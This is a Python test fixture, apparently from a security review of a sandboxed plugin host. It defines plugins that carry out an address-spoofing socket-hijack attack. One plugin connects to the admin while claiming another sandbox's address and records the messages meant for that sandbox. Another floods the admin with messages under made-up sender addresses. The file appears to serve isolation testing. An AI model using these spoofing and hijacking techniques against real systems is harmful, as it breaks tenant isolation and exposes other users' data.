"""A plugin that connects to the admin claiming another sandbox's root as its address, then reads
whatever the admin sends down that connection (the review's socket-hijack attack)."""

import pickle
import socket
import threading
import time

from actors import ChildSpec, Plugin, Supervisor

LOOT = []


def read_frame(sock, buf):
    while b">" not in buf[:24]:
        chunk = sock.recv(65536)
        if not chunk:
            raise EOFError
        buf += chunk
    size, _, rest = buf.partition(b">")
    while len(rest) < int(size):
        chunk = sock.recv(65536)
        if not chunk:
            raise EOFError
        rest += chunk
    return rest[: int(size)], rest[int(size) :]


def hijack(admin_port, victim_port, own_id, seconds):
    from thespian.actors import ActorAddress
    from thespian.system.transport.IPBase import TCPv4ActorAddress

    from plugin_host import _wire
    from plugin_host.messages import GetSandboxInfo

    keys = _wire.process_keys()
    claimed = ActorAddress(TCPv4ActorAddress("127.0.0.1", victim_port, external=True))
    sock = socket.create_connection(("127.0.0.1", admin_port))
    sock.sendall(keys.seal(keys.own.kid, pickle.dumps((claimed, GetSandboxInfo(sandbox_id=own_id, corr="hj")))))
    buf, end = b"", time.time() + seconds
    sock.settimeout(0.5)
    while time.time() < end:
        try:
            body, buf = read_frame(sock, buf)
        except socket.timeout:
            continue
        except (EOFError, OSError):
            LOOT.append("closed")
            break
        kid = body[5 : 5 + int.from_bytes(body[3:5], "big")]
        LOOT.append("own" if kid == keys.own.kid else "another's")
        if kid == keys.own.kid:
            sock.sendall(keys.ack(keys.own))


class Hijacker(Plugin):
    def handle_call(self, request, state):
        if request == "loot":
            return list(LOOT), state
        threading.Thread(target=hijack, args=request, daemon=True).start()
        return "started", state


def send_as_others(admin_port, messages):
    """Send each message to the admin on a connection of its own, each naming a made-up address as its sender."""
    from thespian.actors import ActorAddress
    from thespian.system.transport.IPBase import TCPv4ActorAddress

    from plugin_host import _wire

    keys = _wire.process_keys()
    for number, message in enumerate(messages):
        made_up = ActorAddress(TCPv4ActorAddress("127.0.0.1", 1 + number, external=True))
        with socket.create_connection(("127.0.0.1", admin_port)) as sock:
            sock.sendall(keys.seal(keys.own.kid, pickle.dumps((made_up, message))))
            sock.settimeout(2)
            sock.recv(200)  # its ACK


class Flooder(Plugin):
    def handle_call(self, request, state):
        admin_port, messages = request
        send_as_others(admin_port, messages)
        return len(messages), state


class Root(Supervisor):
    children = [ChildSpec("hijacker", Hijacker), ChildSpec("flooder", Flooder)]
